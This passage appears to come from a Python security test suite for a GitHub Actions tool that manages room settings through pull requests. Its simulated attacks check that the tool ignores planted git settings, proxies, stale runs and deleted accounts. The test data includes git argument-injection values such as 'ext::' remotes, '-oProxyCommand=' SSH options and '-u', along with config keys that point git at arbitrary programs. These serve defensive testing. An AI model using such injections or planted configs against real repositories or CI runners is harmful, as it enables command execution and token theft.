        git("-C", s.origin, "update-ref", "-d", "refs/tags/main")
        check(s.first and s.commented and "not planned" not in s.comment_of(pull), s.comment_of(pull))
        check(gone or s.apply(s.merge(pull)), s.run.log())
        state = state if gone else of("refs/heads/roomctl-state")
    for name in ("state", "adopt"):
        git("-C", s.origin, "update-ref", "-d", f"refs/heads/x/refs/heads/roomctl-{name}")
    git("-C", s.origin, "update-ref", "refs/heads/roomctl-state", state)
    s.by_hand("tea", '{"maxParticipants": 9}')
    return "state.sh, which asks for one name, and proposed.py, which asks what the default branch is as a commit"


@attack("9", "whoever left settings in the .git of a directory", "programs for signatures, for ssh and for a way of their own, and another server in the place of ours")
def settings_that_were_left(s):
    left, ran = s.work / "left", s.work / "ran"
    git("clone", "-q", s.origin, left)
    signed = git("-C", left, "cat-file", "commit", "HEAD").replace("\n\n", "\ngpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----\n\n", 1)
    signed = git("-C", left, "hash-object", "-t", "commit", "-w", "--stdin", given=signed + "\n")
    program = s.binary / "runs"
    program.write_text(f'#!/bin/sh\necho "$0 $*" >> {ran}\nexit 1\n')
    program.chmod(0o755)
    for name, value in (("user.name", "Left"), ("user.email", "left@example.com")):
        git("-C", left, "config", name, value)
    for name in ("gpg.program", "core.sshCommand", "core.pager", "core.askPass", "credential.helper"):
        git("-C", left, "config", name, program)
    for name in ("log.showSignature", "commit.gpgsign"):
        git("-C", left, "config", name, "true")
    git("-C", left, "config", "protocol.ext.allow", "always")
    asked = []

    class Server(Silent):
        def do_GET(self):
            asked.append((self.server.server_port, self.headers.get("Authorization")))
            self.send(401, b"", WWW_Authenticate='Basic realm="x"')

    (_, ours), (_, other) = serve(Server), serve(Server)
    git("-C", left, "config", f"credential.{ours}/acme/rooms.helper", program)
    # Whose settings these are: they count.
    home = s.work / "of-the-user"
    home.mkdir()
    for name, code in (("ssh", f'echo "$*" >> {home}/ssh.log; exit 1'), ("other-ssh", f'echo "other $*" >> {home}/ssh.log; exit 1'), ("helper", "echo password=of-the-helper")):
        (home / name).write_text(f"#!/bin/sh\n{code}\n")
        (home / name).chmod(0o755)
    (home / ".gitconfig").write_text(f"[core]\n\tsshCommand = {home}/ssh\n[credential]\n\thelper = {home}/helper\n")
    environment = {**s.plain, "HOME": str(home), "BRANCH": "roomctl-state", "RUNNER_TEMP": str(s.work / "left-temp"), "TOKEN": "token-of-the-job"}

    def script(text, **more):
        return subprocess.run(["bash", "-c", text], cwd=left, env={**environment, **more}, capture_output=True, text=True, timeout=60)

    state = f"bash {ROOT / ACTION}/state.sh head refs/heads/main"
    done = script(f"cd {ROOT / ACTION} && source ./state.sh functions && cd {left} && top=$PWD && git commit -q --allow-empty -m x")
    check(done.returncode == 0, done)
    done = script(f"python3 -c 'import sys; sys.path.append(\"{ROOT / ACTION}\"); import reviewed; print(reviewed.files_of(\"{signed}\"))'")
    check(done.returncode == 0 and not ran.exists(), f"{done}: {ran.exists() and ran.read_text()}")
    for instead in (f"ext::{program} ", "ssh://x.example/"):
        git("-C", left, "config", f"url.{instead}.insteadOf", s.origin)
        done = script(state)
        git("-C", left, "config", "--unset", f"url.{instead}.insteadOf")
        check(done.returncode == 0 and not ran.exists(), f"{done}: {ran.exists() and ran.read_text()}")
    port = lambda url: int(url.rpartition(":")[2])
    # Of the job, and one that the address holds.
    basic = lambda login: f"Basic {base64.b64encode(login.encode()).decode()}"
    to = lambda login: f"{ours.replace('://', f'://{login}@')}/acme/rooms"
    for remote, token, login in (
        (f"{ours}/acme/rooms", "token-of-the-job", "x-access-token:token-of-the-job"),
        (to("alice"), "token-of-the-job", "x-access-token:token-of-the-job"),
        (to("gitlab-ci-token:of-a-job"), "", "gitlab-ci-token:of-a-job"),
        (to("al%69ce%40example.com:of-a-job%5c%2F%25%zz\\x41"), "", "alice@example.com:of-a-job\\/%%zz\\x41"),
        (to("alice:of-a-job@of-a-job"), "", "alice:of-a-job@of-a-job"),
        (to("alice"), "", "alice:of-the-helper"),
    ):
        asked.clear()
        seen, spies = s.work / "given", [s.binary / name for name in ("git", "base64", "sed")]
        for spy in spies:
            spy.write_text(f'#!/bin/sh\n{{ env; echo "$*"; }} >> {seen}\nexec {shutil.which(spy.name)} "$@"\n')
            spy.chmod(0o755)
        git("-C", left, "config", f"url.{other}/.insteadOf", f"{ours}/")
        done = script(state, REMOTE=remote, TOKEN=token)
        git("-C", left, "config", "--unset", f"url.{other}/.insteadOf")
        for spy in spies:
            spy.unlink()
        # A helper is asked when nothing, and the name alone, did not do.
        at, given = {one[0] for one in asked}, [one[1] for one in asked if one[1] not in (None, basic("alice:")) or "helper" not in login]
        check(at == {port(ours)} and set(given) == {basic(login)}, f"{asked}: {done}")
        check("PATH=" in seen.read_text() and "of-the-job" not in seen.read_text() and "of-a-job" not in seen.read_text(), seen.read_text())
        check(not ran.exists(), f"{remote}: {ran.exists() and ran.read_text()}")
    here, there = redirected()
    fetched = f"python3 -c 'import sys; sys.path.append(\"{ROOT / ACTION}\"); import proposed; proposed.fetch(\"{s.work}/redirected\", 1, \"x\")'"
    for text in (state, fetched):
        done = script(text, REMOTE=f"{here}/acme/rooms")
        check(done.returncode and "302" in done.stderr and not there, f"the token goes nowhere else: {there} {done}")
    for remote, host in (("github:acme/rooms", "github"), ("git@alias:acme/rooms", "git@alias"), ("git@host:/acme/rooms", "git@host"), ("ssh://git@host/acme/rooms", "git@host")):
        for own, name in (({}, ""), ({"GIT_SSH_COMMAND": f"{home}/other-ssh"}, "other ")):
            (home / "ssh.log").unlink(missing_ok=True)
            done = script(state, REMOTE=remote, **own)
            check(done.returncode != 64 and (home / "ssh.log").exists(), f"{remote}: {done}")
            said = (home / "ssh.log").read_text()
            check(said.startswith(name) and host in said and "git-upload-pack" in said and not ran.exists(), f"{remote}: {said}")
    proxy = f"-oProxyCommand={program}"
    for remote in (
        f"ext::{program} x", "-u", "x", f"ext::{program} a://b", f"{proxy}:x", f"{proxy}@host:x", f"git@{proxy}:x", f"ssh://{proxy}/x", f"ssh://git@{proxy}/x",
        "github:-x", "./a:b", "ftp://host/x", "git://host/x", ":x",
    ):
        check(script(state, REMOTE=remote).returncode == 64 and not ran.exists(), remote)
    return "state.sh and github.py, which start git with no program that settings name, one way to the server, and the token for that server"


@attack("9", "nobody", "a proxy on the way to the server, and certificates of a machine: these are let through")
def a_proxy(s):
    asked = []

    class Proxy(Silent):
        def do_GET(self):
            asked.append(self.path)
            self.send(404, b"")

    _, url = serve(Proxy)
    names = [case(f"{one}_proxy") for one in ("http", "https", "no") for case in (str.lower, str.upper)] + ["SSL_CERT_FILE", "SSL_CERT_DIR", "GIT_SSL_CAINFO"]
    code = f"import json, sys; sys.path.append('{ROOT / ACTION}'); import github, proposed; print(json.dumps(github.surroundings()), flush=True); "
    code += f"proposed.fetch('{s.work}/by-proxy', 1, 'x')"
    done = subprocess.run(
        ["bash", ROOT / ACTION / "alone.sh", "TOKEN REMOTE", "python3", "-c", code], capture_output=True, text=True, timeout=60, cwd=s.work,
        env={**s.plain, **{name: "" for name in names}, "http_proxy": url, "REMOTE": "http://rooms.example/acme/rooms", "TOKEN": "canary", "all_proxy": "canary"},
    )
    given = json.loads(done.stdout.splitlines()[0])
    check(all(name in given for name in names) and "canary" not in done.stdout, given)
    check(asked[:1] == ["http://rooms.example/acme/rooms/info/refs?service=git-upload-pack"], f"{asked}: {done}")
    return "nothing, as it should be"


@attack("3", "somebody who may push branches", "a run of comment.yml that waited, or that they start again, with the code and guards of then")
def an_older_run(s):
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 31\n"}, who="member")
    before = s.main()
    # Started again as nothing moved, it counts; and so does one with newer code than what was merged for trial is on top of.
    s.comment(pull, before, 2)
    check(s.commented and s.apply(s.merge(pull)) and '"maxParticipants":31' in s.room("quick-2"), s.runner.log)
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 33\n"}, who="member")
    s.straight_to_main({f"{ACTION}/github.py": (s.clone / ACTION / "github.py").read_text() + "# Newer.\n"})
    s.comment(pull)
    check(s.commented and s.apply(s.merge(pull)) and '"maxParticipants":33' in s.room("quick-2"), s.runner.log)
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 32\n"}, who="member")
    before = s.main()
    for attempt, file in ((1, "mutes.yaml"), (2, f"{ACTION}/github.py")):
        s.straight_to_main({file: ((s.clone / file).read_text() if (s.clone / file).exists() else "mutes: []\n") + "# Mended.\n"})
        s.trial_merge(pull)
        s.comment(pull, before, attempt)
        check(s.commented is False and "moved while it waited" in s.comment_of(pull), s.comment_of(pull))
        first = f"{s.run.workflow}, {s.run.failed}"
        # As if GitHub had not said so.
        compare, s.hub.compare = s.hub.compare, lambda *_: {"status": "behind"}
        s.comment(pull, before, attempt)
        s.hub.compare = compare
        began = s.main()
        check(s.commented and s.apply(s.merge(pull)) is False and '"maxParticipants":32' not in s.room("quick-2"), s.runner.log)
        stopped = refused(s, 4, "with code or guards of before", "no plan was reviewed for")
        s.go_on(began)
        pull.update(state="open", merged_at=None)
    s.straight_to_main({f"{ACTION}/github.py": (ROOT / ACTION / "github.py").read_text()})
    return f"{first}; and if it were: {stopped}"


@attack("11", "an accident", "a label of an account that is gone, and one on a pull request with more events than are read")
def labels_that_cannot_be_asked_about(s):
    gone = s.pull_request({"rooms/quick-2.yaml": PUBLIC}, who="member")
    s.hub.label(gone, "roomctl:allow/privacy-widened", "maintainer")
    s.hub.events[-1][1]["actor"] = None
    s.plan(gone)
    check(s.commented and "the account that set it is gone" in s.comment_of(gone), s.runner.log)
    many = s.pull_request({"rooms/quick-2.yaml": PUBLIC}, who="member")
    s.hub.events += [(many["number"], {"event": "subscribed"})] * 10_000
    s.hub.label(many, "roomctl:allow/privacy-widened", "maintainer")
    s.plan(many)
    check(s.commented and "No label counts: more than 10000 elements" in s.comment_of(many), s.comment_of(many))
    # What was ours may be of nobody.
    s.hub.comments.insert(0, {**s.comment_on(many), "id": 0, "user": None, "body": "<!-- roomctl:plan-for-apply -->"})
    s.hub.comments[0]["issue"] = gone["number"]
    s.plan(gone)
    s.hub.comments.pop(0)
    check(s.commented, s.runner.log)
    words = re.findall("::stop-commands::roomctl-(.*)", s.runner.log)
    check(words and all(re.fullmatch("[0-9a-f]{32}", word) for word in words) and len(set(words)) == len(words), words[-3:])
    return "reviewed.py, which says so in the comment, and counts none of them"
